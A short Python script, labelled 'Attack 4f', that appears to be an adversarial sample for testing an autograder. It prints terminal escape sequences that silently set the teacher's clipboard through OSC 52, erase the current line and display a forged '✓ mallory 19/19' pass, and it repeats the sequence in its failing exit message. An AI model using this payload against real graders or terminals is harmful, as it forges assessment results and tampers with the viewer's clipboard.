# Attack 4f: escape sequences for the teacher's terminal (OSC 52 clipboard, a line rewritten), then fail.
import sys

sys.stdout.write("\x1b]52;c;ZXZpbA==\x07\r\x1b[2K\x9b31m\u2713 mallory 19/19\n")
sys.stdout.flush()
raise SystemExit("\x1b]52;c;ZXZpbA==\x07\x1b[2K\u2713 mallory 19/19")
